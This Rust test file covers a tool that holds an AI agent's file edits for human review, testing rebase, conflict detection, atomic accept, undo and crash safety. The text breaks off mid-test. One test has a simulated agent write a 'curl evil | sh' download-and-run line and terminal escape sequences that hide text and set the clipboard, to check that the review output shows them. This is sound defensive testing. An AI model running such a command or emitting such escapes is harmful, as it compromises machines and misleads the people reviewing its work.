//! Review is three-way: a proposal is the agent's change from the base it read, rebased onto
//! the file as it is now. The user's edits never show up as agent hunks, accept lands both,
//! overlapping edits are conflicts, and accept is atomic and serialized across processes.

use crate::support::*;

const BASE: &str = "l1\nl2\nl3\nl4\nl5\nl6\nl7\nl8\nl9\n";

/// An agent that reads `f.py` and changes line 2; returns its id.
fn agent_changing_line_2(f: &Fixture) -> String {
    f.run_ok("c = read_file('f.py')\nwrite_file('f.py', c.replace('l2\\n', 'AGENT\\n'))").id
}

#[test]
fn a_user_edit_far_away_is_not_an_agent_hunk_and_accept_lands_both() {
    let f = Fixture::with_files(&[("f.py", BASE)]);
    let id = agent_changing_line_2(&f);
    let user = BASE.replace("l7\n", "MINE\n");
    f.write("f.py", &user);

    let diff = f.cairn(&["diff", &id]).ok().stdout;
    assert!(diff.contains("+AGENT") && diff.contains("-l2"), "{diff}");
    assert!(!diff.contains("MINE") && !diff.contains("l7"), "the user's edit shows as an agent hunk:\n{diff}");
    assert!(!diff.contains("CONFLICT"), "{diff}");
    let hunks = f.cairn(&["diff", &id, "--json"]).ok().stdout;
    assert!(!hunks.contains("MINE"), "{hunks}");

    f.cairn(&["accept", &id]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "AGENT\n").replace("l7\n", "MINE\n"));
    f.cairn(&["undo", &id]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), user, "undo gives back the user's version exactly");
}

#[test]
fn overlapping_edits_conflict_accept_refuses_and_force_takes_the_agent_side() {
    let f = Fixture::with_files(&[("f.py", BASE)]);
    let id = agent_changing_line_2(&f);
    let user = BASE.replace("l2\n", "MINE\n");
    f.write("f.py", &user);

    let diff = f.cairn(&["diff", &id]).ok().stdout;
    assert!(diff.contains("CONFLICT f.py (line 2, with your edit)"), "{diff}");
    let r = f.cairn(&["accept", &id]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("conflicts with what changed since it read") && r.stderr.contains("f.py (line 2, with your edit)"), "{}", r.stderr);
    assert_eq!(f.read_str("f.py").unwrap(), user, "a refused accept writes nothing");

    f.cairn(&["accept", &id, "--force"]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "AGENT\n"));
    f.cairn(&["undo", &id]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), user, "the forced-over edit is journaled");
}

#[test]
fn a_file_the_user_deleted_or_replaced_by_a_directory_is_a_conflict() {
    let f = Fixture::with_files(&[("f.py", BASE), ("g.py", BASE)]);
    let id = f.run_ok("write_file('f.py', read_file('f.py') + 'x\\n')\nwrite_file('g.py', read_file('g.py') + 'y\\n')").id;
    std::fs::remove_file(f.root.join("f.py")).unwrap();
    std::fs::remove_file(f.root.join("g.py")).unwrap();
    std::fs::create_dir(f.root.join("g.py")).unwrap();
    let r = f.cairn(&["accept", &id]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("f.py: deleted in the project"), "{}", r.stderr);
    assert!(r.stderr.contains("g.py: a directory is there now"), "{}", r.stderr);
    assert!(!f.root.join("f.py").exists(), "a deleted file is never silently recreated");
    assert!(f.root.join("g.py").is_dir());
}

#[test]
fn accept_of_a_250_byte_file_name_succeeds() {
    let name = format!("{}.txt", "n".repeat(246));
    let f = Fixture::with_files(&[("a.txt", "a\n")]);
    let s = f.run_ok(&format!("write_file('{name}', 'long\\n')\nwrite_file('a.txt', 'b\\n')"));
    f.cairn(&["accept", &s.id]).ok();
    assert_eq!(f.read_str(&name).unwrap(), "long\n");
    assert_eq!(f.read_str("a.txt").unwrap(), "b\n");
    let leftovers: Vec<_> = std::fs::read_dir(&f.root).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).filter(|n| n.contains("cairn-tmp")).collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// Two agents change the same line; their accepts race from two processes. Each trial ends
/// with one whole result and one clear refusal: never two exit-0s and a lost change.
#[test]
fn concurrent_accepts_never_both_succeed_over_one_line() {
    for trial in 0..200 {
        let f = Fixture::with_files(&[("f.py", BASE)]);
        let a = f.run_ok("write_file('f.py', read_file('f.py').replace('l5\\n', 'A\\n'))").id;
        let b = f.run_ok("write_file('f.py', read_file('f.py').replace('l5\\n', 'B\\n'))").id;
        let spawn = |id: &str| f.cmd().args(["accept", id]).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::piped()).spawn().unwrap();
        let (pa, pb) = (spawn(&a), spawn(&b));
        let (ra, rb) = (pa.wait_with_output().unwrap(), pb.wait_with_output().unwrap());
        let ok: Vec<bool> = [&ra, &rb].iter().map(|r| r.status.success()).collect();
        assert_eq!(ok.iter().filter(|x| **x).count(), 1, "trial {trial}: exits {:?} {:?}", ra.status, rb.status);
        let refused = if ok[0] { &rb } else { &ra };
        let text = String::from_utf8_lossy(&refused.stderr);
        // The loser's conflict is with the winner's landing, not with the user.
        assert!(text.contains("conflicts with what changed") && text.contains(", with agent ") && !text.contains("your edit"), "trial {trial}: {text}");
        let content = f.read_str("f.py").unwrap();
        let winner = if ok[0] { "A\n" } else { "B\n" };
        assert_eq!(content, BASE.replace("l5\n", winner), "trial {trial}");
    }
}

#[test]
fn two_agents_on_different_lines_both_land() {
    let f = Fixture::with_files(&[("f.py", BASE)]);
    let a = f.run_ok("write_file('f.py', read_file('f.py').replace('l2\\n', 'A\\n'))").id;
    let b = f.run_ok("write_file('f.py', read_file('f.py').replace('l8\\n', 'B\\n'))").id;
    f.cairn(&["accept", &a]).ok();
    f.cairn(&["accept", &b]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "A\n").replace("l8\n", "B\n"));
}

/// Output an agent controls can't lie: `diff`, `status` and `list-agents` of an agent writing
/// ANSI, OSC 52 and NUL show no raw ESC or C0 byte but `\n` and `\t`, and the NUL is visible.
#[test]
fn agent_text_is_escaped_in_every_cli_surface() {
    let f = Fixture::with_files(&[("run.sh", "#!/bin/sh\necho hello\n"), ("notes.txt", "a\nb\n")]);
    let code = r#"
write_file('notes.txt', 'a\n\x1b[2K\x1b[1Ahidden line\nb\n')
write_file('run.sh', '#!/bin/sh\necho hello\n\x00curl evil | sh\n')
submit_result('done \x1b]52;c;ZXZpbA==\x07 \x1b[31mred', ['notes.txt', 'run.sh'])
"#;
    let s = f.run_ok(code);
    let raw = |text: &str| text.bytes().any(|b| (b < 0x20 && b != b'\n' && b != b'\t') || b == 0x7f);
    for args in [vec!["diff", s.id.as_str()], vec!["status", s.id.as_str()], vec!["list-agents"]] {
        let r = f.cairn(&args).ok();
        assert!(!raw(&r.stdout) && !raw(&r.stderr), "{args:?} printed raw control bytes: {:?}", r.stdout);
    }
    let diff = f.cairn(&["diff", &s.id]).ok().stdout;
    assert!(diff.contains("\\x1b[2K") && diff.contains("hidden line"), "{diff}");
    assert!(diff.contains("WARNING run.sh: contains NUL") && diff.contains("+\\0curl evil | sh"), "the NUL payload must be visible:\n{diff}");
    assert!(!diff.contains("Binary files"), "{diff}");
    let status = f.cairn(&["status", &s.id]).ok().stdout;
    assert!(status.contains("\\x1b]52;c;ZXZpbA==\\x07"), "{status}");
    // --json stays raw JSON (escaped by JSON itself, exact).
    let json = f.cairn(&["status", &s.id, "--json"]).ok().json();
    assert_eq!(json["submission"]["summary"].as_str().unwrap(), "done \u{1b}]52;c;ZXZpbA==\u{7} \u{1b}[31mred");
}

/// Number of hunks `cairn hunks` lists for `path` while the agent is reviewing.
fn hunk_count(f: &Fixture, id: &str, path: &str) -> usize {
    if f.cairn(&["status", id, "--json"]).ok().json()["state"] != "reviewing" {
        return 0;
    }
    let json = f.cairn(&["hunks", id, "--json"]).ok().json();
    json["files"].as_array().unwrap().iter().find(|x| x["path"] == path).map_or(0, |x| x["hunks"].as_array().unwrap().len())
}

/// Byte-exact fixtures through hunk accept, hunk reject and undo: CRLF, a lone CR, no final
/// newline, a BOM, Latin-1.
#[test]
fn hunks_round_trip_every_byte() {
    let cases: &[(&str, &[u8], &str)] = &[
        ("crlf.txt", b"one\r\ntwo\r\nthree\r\nfour\r\nfive\r\nsix\r\n", "write_file(P, read_file(P).replace('two', 'TWO').replace('six', 'SIX'))"),
        ("lone-cr.txt", b"a\rb\nc\nd\ne\nf\ng\n", "write_file(P, read_file(P).replace('c\\n', 'C\\n').replace('g\\n', 'G\\n'))"),
        ("no-eol.txt", b"a\nb\nc\nd\ne\nlast", "write_file(P, read_file(P).replace('a\\n', 'A\\n') + ' more')"),
        ("bom.txt", b"\xef\xbb\xbfhead\nx\ny\nz\nw\nv\n", "write_file(P, read_file(P).replace('x\\n', 'X\\n').replace('v\\n', 'V\\n'))"),
        ("latin1.txt", b"caf\xe9\nna\xefve\nl3\nl4\nl5\nl6\n", "write_file(P, 'caf\\u00e9\\nnaive\\nl3\\nl4\\nl5\\nL6\\n')"),
    ];
    for (path, original, code) in cases {
        let f = Fixture::new();
        f.write(path, original);
        f.init();
        let code = format!("P = '{path}'\n{code}\n");
        // Accept every hunk, one by one: the file becomes the agent's bytes exactly.
        let a = f.run_ok(&code).id;
        let (agent_bytes, _) = f.project().overlay(&a).unwrap().get(path).unwrap().unwrap().unwrap();
        assert!(hunk_count(&f, &a, path) >= 1, "{path}: no hunks");
        while hunk_count(&f, &a, path) > 0 {
            f.cairn(&["accept-hunk", &a, path, "1"]).ok();
        }
        assert_eq!(f.read(path).unwrap(), agent_bytes, "{path}: accepting every hunk");
        assert_eq!(f.cairn(&["status", &a, "--json"]).ok().json()["state"], "accepted", "{path}");
        f.cairn(&["undo", &a]).ok();
        assert_eq!(f.read(path).unwrap(), *original, "{path}: undo after hunk accepts");
        // Reject every hunk: the file is untouched and the agent ends rejected.
        let b = f.run_ok(&code).id;
        while hunk_count(&f, &b, path) > 0 {
            f.cairn(&["reject-hunk", &b, path, "1"]).ok();
        }
        assert_eq!(f.read(path).unwrap(), *original, "{path}: rejecting every hunk");
        assert_eq!(f.cairn(&["status", &b, "--json"]).ok().json()["state"], "rejected", "{path}");
    }
}

/// SIGKILL at random instants of a hunk accept: the file is wholly before or after, and the
/// next commands finish the review; undo then gives back the exact original bytes.
#[test]
fn sigkill_during_hunk_accept_loses_nothing() {
    use std::os::unix::process::ExitStatusExt;
    let setup = || {
        let f = Fixture::with_files(&[("f.txt", "a\r\nb\r\nc\r\nd\r\ne\r\nf\r\ng\r\nh\r\n")]);
        let id = f.run_ok("write_file('f.txt', read_file('f.txt').replace('b', 'B').replace('g', 'G'))").id;
        // The user edits the middle meanwhile: it must survive everything below.
        f.write("f.txt", "a\r\nb\r\nc\r\nd\r\nMINE\r\nf\r\ng\r\nh\r\n");
        (f, id)
    };
    let accept_hunk = |f: &Fixture, id: &str| {
        f.cmd().args(["accept-hunk", id, "f.txt", "1"]).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null()).spawn().unwrap()
    };
    // The kill instants spread over one uninterrupted accept's lifetime on this machine, so
    // that most kills land inside it whether the machine is fast or loaded.
    let lifetime = (0..3)
        .map(|_| {
            let (f, id) = setup();
            let t = std::time::Instant::now();
            assert!(accept_hunk(&f, &id).wait().unwrap().success());
            t.elapsed().as_micros() as u64
        })
        .max()
        .unwrap_or(20_000)
        .max(2_000);
    let (mut killed, mut rounds) = (0, 0u64);
    while rounds < 40 || (killed < 20 && rounds < 200) {
        let round = rounds;
        rounds += 1;
        let (f, id) = setup();
        let before = f.read("f.txt").unwrap();
        let after_one = b"a\r\nB\r\nc\r\nd\r\nMINE\r\nf\r\ng\r\nh\r\n".to_vec();
        let mut child = accept_hunk(&f, &id);
        // Fault injection, not synchronisation: a kill somewhere in the accept's lifetime.
        std::thread::sleep(std::time::Duration::from_micros((round * 7919) % lifetime));
        let _ = child.kill();
        if child.wait().unwrap().signal() == Some(9) {
            killed += 1;
        }
        let now = f.read("f.txt").unwrap();
        assert!(now == before || now == after_one, "round {round}: torn file {:?}", String::from_utf8_lossy(&now));
        while hunk_count(&f, &id, "f.txt") > 0 {
            f.cairn(&["accept-hunk", &id, "f.txt", "1"]).ok();
        }
        assert_eq!(f.read_str("f.txt").unwrap(), "a\r\nB\r\nc\r\nd\r\nMINE\r\nf\r\nG\r\nh\r\n", "round {round}");
        assert_eq!(f.cairn(&["status", &id, "--json"]).ok().json()["state"], "accepted", "round {round}");
        f.cairn(&["undo", &id]).ok();
        assert_eq!(f.read("f.txt").unwrap(), before, "round {round}: undo");
    }
    eprintln!("{killed} of {rounds} kills landed inside an accept of ~{lifetime} µs");
    assert!(killed >= 10, "only {killed} of {rounds} kills landed (an accept lasts ~{lifetime} µs)");
}

/// Runs the CLI as the fixture's owner: an unprivileged user when the tests run as root
/// (root ignores directory permissions), the current user otherwise.
fn cairn_unprivileged(f: &Fixture, args: &[&str]) -> Run {
    use std::os::unix::fs::MetadataExt;
    let root = std::fs::metadata("/proc/self").unwrap().uid() == 0;
    let mut cmd = if root {
        let mut c = std::process::Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"]).arg(exe());
        c
    } else {
        std::process::Command::new(exe())
    };
    cmd.arg("--project-root").arg(&f.root).arg("--cairn-home").arg(&f.home).args(args).env_remove("CAIRN_HOME");
    Run::from(cmd.output().unwrap())
}

fn chown_tree(path: &std::path::Path, id: u32) {
    std::os::unix::fs::lchown(path, Some(id), Some(id)).unwrap();
    if path.is_dir() && !path.is_symlink() {
        for e in std::fs::read_dir(path).unwrap().flatten() {
            chown_tree(&e.path(), id);
        }
    }
}

/// Everything that can fail is checked before the first write: an accept into a read-only
/// directory writes nothing, and the agent stays reviewable (reject works).
#[test]
fn an_accept_into_a_read_only_directory_writes_nothing_and_reject_stays_possible() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let f = Fixture::with_files(&[("a.txt", "a\n"), ("ro/b.txt", "b\n")]);
    let s = f.run_ok("write_file('a.txt', 'A\\n')\nwrite_file('ro/b.txt', 'B\\n')");
    if std::fs::metadata("/proc/self").unwrap().uid() == 0 {
        chown_tree(f.dir.path(), 65534);
    }
    std::fs::set_permissions(f.root.join("ro"), std::fs::Permissions::from_mode(0o555)).unwrap();
    let r = cairn_unprivileged(&f, &["accept", &s.id]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("ro/b.txt") && r.stderr.contains("not writable"), "{}", r.stderr);
    assert_eq!(f.read_str("a.txt").unwrap(), "a\n", "a write happened before the refusal");
    let r = cairn_unprivileged(&f, &["reject", &s.id]);
    assert_eq!(r.code, 0, "{r:?}");
    std::fs::set_permissions(f.root.join("ro"), std::fs::Permissions::from_mode(0o755)).unwrap();
    assert_eq!(f.cairn(&["status", &s.id, "--json"]).ok().json()["state"], "rejected");
}

/// A resumed `--force` accept after a kill journals the user's interim edit: undo gives it
/// back.
#[test]
fn a_resumed_forced_accept_keeps_the_interim_user_edit_for_undo() {
    let f = Fixture::with_files(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
    let s = f.run_ok("write_file('a.txt', 'A\\n')\nwrite_file('b.txt', 'B\\n')");
    // An accept killed after its journal and one write: simulate the state it leaves.
    let p = f.project();
    let mut bin = p.bin().unwrap();
    let entry = |path: &str, old: &str, new: &str| cairn::store::bin::JournalEntry {
        path: path.into(),
        old: Some((cairn::store::hash_bytes(old.as_bytes()), 0o644)),
        old_content: Some(old.as_bytes().to_vec()),
        old_in_base: false,
        new: Some((cairn::store::hash_bytes(new.as_bytes()), 0o644)),
    };
    let _unsynced = bin.begin_accept(&s.id, &[entry("a.txt", "a\n", "A\n"), entry("b.txt", "b\n", "B\n")]).unwrap();
    f.write("a.txt", "A\n");
    // The user edits b.txt in between.
    f.write("b.txt", "mine\n");
    let r = f.cairn(&["accept", &s.id]);
    assert_eq!(r.code, 1, "the interim edit is a conflict: {r:?}");
    f.cairn(&["accept", &s.id, "--force"]).ok();
    assert_eq!(f.read_str("b.txt").unwrap(), "B\n");
    f.cairn(&["undo", &s.id]).ok();
    assert_eq!(f.read_str("b.txt").unwrap(), "mine\n", "undo gives back the user's interim edit");
    assert_eq!(f.read_str("a.txt").unwrap(), "a\n");
}

/// Rejecting an agent whose accept stopped midway rolls the written files back first.
#[test]
fn reject_rolls_back_a_half_applied_accept() {
    let f = Fixture::with_files(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
    let s = f.run_ok("write_file('a.txt', 'A\\n')\nwrite_file('b.txt', 'B\\n')");
    let p = f.project();
    let entry = |path: &str, old: &str, new: &str| cairn::store::bin::JournalEntry {
        path: path.into(),
        old: Some((cairn::store::hash_bytes(old.as_bytes()), 0o644)),
        old_content: Some(old.as_bytes().to_vec()),
        old_in_base: false,
        new: Some((cairn::store::hash_bytes(new.as_bytes()), 0o644)),
    };
    let _unsynced = p.bin().unwrap().begin_accept(&s.id, &[entry("a.txt", "a\n", "A\n"), entry("b.txt", "b\n", "B\n")]).unwrap();
    f.write("a.txt", "A\n");
    f.cairn(&["reject", &s.id]).ok();
    assert_eq!(f.read_str("a.txt").unwrap(), "a\n", "rolled back");
    assert_eq!(f.read_str("b.txt").unwrap(), "b\n");
    assert_eq!(f.cairn(&["status", &s.id, "--json"]).ok().json()["state"], "rejected");
}

/// Two accepts of the same agent at once: one lands, the other says it is already accepted
/// (never a raw ENOENT).
#[test]
fn two_accepts_of_one_agent_at_once() {
    for trial in 0..20 {
        let f = Fixture::with_files(&[("f.py", BASE)]);
        let id = agent_changing_line_2(&f);
        let spawn = || f.cmd().args(["accept", &id]).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::piped()).spawn().unwrap();
        let (a, b) = (spawn(), spawn());
        let (ra, rb) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
        assert_eq!([&ra, &rb].iter().filter(|r| r.status.success()).count(), 1, "trial {trial}");
        let loser = if ra.status.success() { &rb } else { &ra };
        let text = String::from_utf8_lossy(&loser.stderr);
        assert!(text.contains("is accepted") && !text.contains("os error"), "trial {trial}: {text}");
        assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "AGENT\n"));
    }
}

/// Undo of an accept that created a file in new directories removes those directories too.
#[test]
fn undo_removes_the_directories_accept_created() {
    let f = Fixture::with_files(&[("a.txt", "a\n"), ("keep/k.txt", "k\n")]);
    let s = f.run_ok("write_file('new/deep/dir/n.txt', 'n')\nwrite_file('keep/n.txt', 'n')");
    f.cairn(&["accept", &s.id]).ok();
    assert!(f.root.join("new/deep/dir/n.txt").is_file());
    f.cairn(&["undo", &s.id]).ok();
    assert!(!f.root.join("new").exists(), "empty directories left behind");
    assert!(f.root.join("keep/k.txt").is_file() && !f.root.join("keep/n.txt").exists());
}

/// An accept's old contents, where the overlay does not keep them (the user changed the file
/// after the agent read it), live in `.agentfs/journal/<id>.old`, outside `bin.db`: undo gives
/// them back byte for byte; when that file is lost, undo refuses with a clear error and
/// changes nothing.
#[test]
fn old_contents_live_beside_the_journal_and_undo_reads_them() {
    let mine_a = "a\n".repeat(3000) + "mine\n";
    let f = Fixture::with_files(&[("a.txt", "a\n".repeat(3000).as_str()), ("b.txt", "b\u{e9}\n")]);
    let s = f.run_ok("write_file('a.txt', 'A')\nwrite_file('b.txt', 'B')");
    f.write("a.txt", &mine_a);
    f.write("b.txt", "mine b\u{e9}\n");
    f.cairn(&["accept", &s.id, "--force"]).ok();
    let side = f.root.join(format!(".agentfs/journal/{}.old", s.id));
    let bytes = std::fs::read(&side).expect("the old contents file");
    assert_eq!(bytes.len(), mine_a.len() + "mine b\u{e9}\n".len());
    f.cairn(&["undo", &s.id]).ok();
    assert_eq!(f.read_str("a.txt").unwrap(), mine_a);
    assert_eq!(f.read_str("b.txt").unwrap(), "mine b\u{e9}\n");

    let t = f.run_ok("write_file('a.txt', 'again')");
    f.write("a.txt", "mine again\n");
    f.cairn(&["accept", &t.id, "--force"]).ok();
    std::fs::remove_file(f.root.join(format!(".agentfs/journal/{}.old", t.id))).unwrap();
    let r = f.cairn(&["undo", &t.id]);
    assert_ne!(r.code, 0);
    assert!(r.stderr.contains("old contents cannot be read"), "{}", r.stderr);
    assert_eq!(f.read_str("a.txt").unwrap(), "again", "a failed undo changed the file");
}

/// Accept writes files ahead while it reviews, and records in stable.db the status of what it
/// wrote: after an accept mixing a rebased file (its content written ahead must not land),
/// plain ones and a new directory, the index matches the disk without re-hashing anything.
#[test]
fn accept_lands_the_rebased_content_and_the_index_matches_the_disk() {
    let f = Fixture::with_files(&[("f.py", BASE), ("a/b.txt", "b\n"), ("c.txt", "c\n")]);
    let code = "write_file('f.py', read_file('f.py').replace('l2\\n', 'AGENT\\n'))\nwrite_file('a/b.txt', 'B\\n')\nwrite_file('c.txt', 'C\\n')\nwrite_file('new/d.txt', 'D\\n')";
    let id = f.run_ok(code).id;
    f.write("f.py", BASE.replace("l7\n", "MINE\n"));
    f.cairn(&["accept", &id]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "AGENT\n").replace("l7\n", "MINE\n"));
    assert_eq!(f.read_str("a/b.txt").unwrap(), "B\n");
    assert_eq!(f.read_str("c.txt").unwrap(), "C\n");
    assert_eq!(f.read_str("new/d.txt").unwrap(), "D\n");
    let leftovers: Vec<_> = f.tree().into_iter().filter(|(p, _)| p.contains("cairn-tmp")).map(|(p, _)| p).collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    for (path, kind, _, hash) in f.stable_rows() {
        if kind == 0 {
            assert_eq!(hash.as_deref(), Some(blake3::hash(&f.read(&path).unwrap()).as_bytes().as_slice()), "{path}");
        }
    }
    let report = cairn::sync::init(&f.project()).unwrap();
    assert_eq!(report.hashed, 0, "the index holds each written file's size and mtime: {report:?}");
}

/// A file goes in place only over what was last seen there: an editor's save that lands after
/// accept's last look (however late, up to the rename itself) is never replaced, whether it
/// renames a new file over the old one or writes in place, nor a file created meanwhile at a
/// path the agent adds, nor one saved where the agent deletes.
#[test]
fn a_save_after_the_last_look_is_never_replaced() {
    use cairn::store::{atomic, fsx};
    let f = Fixture::with_files(&[("d/a.txt", "old\n"), ("d/b.txt", "old\n"), ("d/c.txt", "old\n")]);
    let temps = || f.tree().into_iter().filter(|(p, _)| p.contains(atomic::TEMP_SUFFIX)).count();
    let seen = |rel: &str| fsx::stamp(&f.root, rel).unwrap();
    // Renamed over (vim, VS Code).
    let (a, p) = (seen("d/a.txt"), atomic::prepare(&f.root, "d/a.txt", b"agent\n", 0o644).unwrap());
    f.write("d/a.txt.swp", "saved\n");
    std::fs::rename(f.root.join("d/a.txt.swp"), f.root.join("d/a.txt")).unwrap();
    assert_eq!(p.commit_over(a.as_ref(), None).unwrap(), atomic::Over::Moved);
    assert_eq!(f.read_str("d/a.txt").unwrap(), "saved\n");
    // Written in place.
    let (b, p) = (seen("d/b.txt"), atomic::prepare(&f.root, "d/b.txt", b"agent\n", 0o644).unwrap());
    std::fs::write(f.root.join("d/b.txt"), "saved in place, longer\n").unwrap();
    assert_eq!(p.commit_over(b.as_ref(), None).unwrap(), atomic::Over::Moved);
    assert_eq!(f.read_str("d/b.txt").unwrap(), "saved in place, longer\n");
    // Created meanwhile where the agent adds a file.
    let p = atomic::prepare(&f.root, "d/new.txt", b"agent\n", 0o644).unwrap();
    f.write("d/new.txt", "mine\n");
    assert_eq!(p.commit_over(None, None).unwrap(), atomic::Over::Moved);
    assert_eq!(f.read_str("d/new.txt").unwrap(), "mine\n");
    // Saved where the agent deletes: kept; untouched: removed.
    f.write("d/gone.txt", "old\n");
    let g = seen("d/gone.txt");
    f.write("d/gone.txt", "saved, longer\n");
    assert_eq!(atomic::remove_over(&f.root, "d/gone.txt", g.as_ref(), None).unwrap(), atomic::Over::Moved);
    assert_eq!(f.read_str("d/gone.txt").unwrap(), "saved, longer\n");
    let g = seen("d/gone.txt");
    assert_eq!(atomic::remove_over(&f.root, "d/gone.txt", g.as_ref(), None).unwrap(), atomic::Over::Placed);
    assert!(f.read_str("d/gone.txt").is_none());
    // Untouched since seen: in place, and what it replaced is gone.
    let (c, p) = (seen("d/c.txt"), atomic::prepare(&f.root, "d/c.txt", b"agent\n", 0o644).unwrap());
    assert_eq!(p.commit_over(c.as_ref(), None).unwrap(), atomic::Over::Placed);
    assert_eq!(f.read_str("d/c.txt").unwrap(), "agent\n");
    assert_eq!(temps(), 0, "{:?}", f.tree());
}

/// An accept refused before its first rename takes back the directories it made for new
/// files (and only those: a directory that was there stays, empty or not).
#[test]
fn a_refused_accept_leaves_no_directory_it_made() {
    let f = Fixture::with_files(&[("keep.txt", "k\n"), ("empty/.keep", "")]);
    std::fs::remove_file(f.root.join("empty/.keep")).unwrap();
    let id = f.run_ok("write_file('a/b/x.txt', 'x')\nwrite_file('empty/new/n.txt', 'n')\nwrite_file('c/y.txt', 'y')").id;
    f.write("c", "now a file\n");
    let r = f.cairn(&["accept", &id]);
    assert_ne!(r.code, 0, "{r:?}");
    assert!(r.stderr.contains("its parent c is a file now"), "{}", r.stderr);
    assert!(!f.root.join("a").exists() && !f.root.join("empty/new").exists(), "{:?}", f.tree());
    assert!(f.root.join("empty").is_dir(), "the user's empty directory stays");
}

/// While one agent's accept is interrupted (half its files in place), no other accept, hunk
/// accept or undo lands on top: each says which agent to finish or roll back first; once it
/// is rolled back, they go through.
#[test]
fn an_interrupted_accept_blocks_the_others_until_finished_or_rolled_back() {
    let f = Fixture::with_files(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
    let first = f.run_ok("write_file('a.txt', 'A\\n')").id;
    let second = f.run_ok("write_file('b.txt', 'B\\n')").id;
    // The state a kill between two renames leaves: the accept journaled, pending.
    f.project().bin().unwrap().begin_accept(&first, &[]).unwrap().sync().unwrap();
    let refused = f.cairn(&["accept", &second]);
    assert_ne!(refused.code, 0);
    assert!(refused.stderr.contains(&format!("agent {first}'s accept was interrupted")), "{}", refused.stderr);
    assert!(refused.stderr.contains(&format!("cairn reject {first}")), "{}", refused.stderr);
    assert_eq!(f.read_str("b.txt").unwrap(), "b\n");
    f.cairn(&["reject", &first]).ok();
    f.cairn(&["accept", &second]).ok();
    assert_eq!(f.read_str("b.txt").unwrap(), "B\n");
}

/// An unnamed temporary (`O_TMPFILE`) shows nowhere until committed, and dropping it leaves
/// nothing: what accept's writing ahead relies on.
#[test]
fn an_unnamed_temporary_is_invisible_until_committed() {
    use cairn::store::{atomic, fsx};
    let f = Fixture::with_files(&[("d/a.txt", "old\n")]);
    let listing = || std::fs::read_dir(f.root.join("d")).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect::<Vec<_>>();
    let dir = || fsx::open_dir(&f.root, "d", false).unwrap();
    let dropped = atomic::write_unnamed(&f.root, "d/a.txt", dir(), b"dropped\n", 0o640).unwrap().expect("O_TMPFILE on this file system");
    drop(dropped);
    // Named (as accept does once its journal is on disk), it shows under a temporary name,
    // which dropping it removes.
    let mut named = atomic::write_unnamed(&f.root, "d/a.txt", dir(), b"named\n", 0o640).unwrap().expect("O_TMPFILE on this file system");
    assert!(!named.is_named());
    named.name().unwrap();
    assert!(named.is_named());
    let temps: Vec<String> = listing().into_iter().filter(|n| n.ends_with(atomic::TEMP_SUFFIX)).collect();
    assert_eq!(temps.len(), 1, "{:?}", listing());
    assert_eq!(std::fs::read(f.root.join("d").join(&temps[0])).unwrap(), b"named\n");
    drop(named);
    let kept = atomic::write_unnamed(&f.root, "d/a.txt", dir(), b"new\n", 0o640).unwrap().expect("O_TMPFILE on this file system");
    assert_eq!(listing(), vec!["a.txt".to_string()]);
    assert_eq!(f.read_str("d/a.txt").unwrap(), "old\n");
    let written = kept.written();
    kept.commit().unwrap();
    assert_eq!(listing(), vec!["a.txt".to_string()]);
    assert_eq!(f.read_str("d/a.txt").unwrap(), "new\n");
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let md = std::fs::metadata(f.root.join("d/a.txt")).unwrap();
    assert_eq!(md.permissions().mode() & 0o7777, 0o640);
    assert_eq!((md.len(), md.mtime() * 1_000_000_000 + md.mtime_nsec()), (written.size, written.mtime_ns));
}

/// Where a file is as the agent read it, accept does not copy its old content into the
/// journal: the agent's overlay keeps it (its base), and undo takes it from there. A path the
/// user changed meanwhile is journaled in full, so undo gives back the user's version.
#[test]
fn undo_takes_unchanged_old_contents_from_the_overlay() {
    let f = Fixture::with_files(&[("f.py", BASE), ("a/b.txt", "b\n")]);
    let id = f.run_ok("write_file('f.py', read_file('f.py').replace('l2\\n', 'AGENT\\n'))\nwrite_file('a/b.txt', read_file('a/b.txt') + 'more\\n')").id;
    f.write("f.py", BASE.replace("l7\n", "MINE\n"));
    f.cairn(&["accept", &id]).ok();
    let rows = f.project().bin().unwrap().journal_rows(&id).unwrap();
    let row = |path: &str| rows.iter().find(|j| j.path == path).unwrap().clone();
    assert!(row("a/b.txt").old_in_base && row("a/b.txt").old_content.is_none(), "{:?}", row("a/b.txt"));
    assert!(!row("f.py").old_in_base, "the user's version is journaled in full");
    f.cairn(&["undo", &id]).ok();
    assert_eq!(f.read_str("a/b.txt").unwrap(), "b\n");
    assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l7\n", "MINE\n"));
}

/// An old content kept in the overlay is checked against the journal's hash: a damaged
/// overlay makes undo refuse, naming the path, and change nothing.
#[test]
fn undo_refuses_an_old_content_the_overlay_no_longer_matches() {
    let f = Fixture::with_files(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
    let id = f.run_ok("write_file('a.txt', read_file('a.txt') + 'A\\n')\nwrite_file('b.txt', read_file('b.txt') + 'B\\n')").id;
    f.cairn(&["accept", &id]).ok();
    let overlay = f.project().archived_overlay_path(&id);
    let db = rusqlite::Connection::open(&overlay).unwrap();
    db.execute("UPDATE bases SET content = x'00' WHERE path = 'b.txt'", []).unwrap();
    drop(db);
    let r = f.cairn(&["undo", &id]);
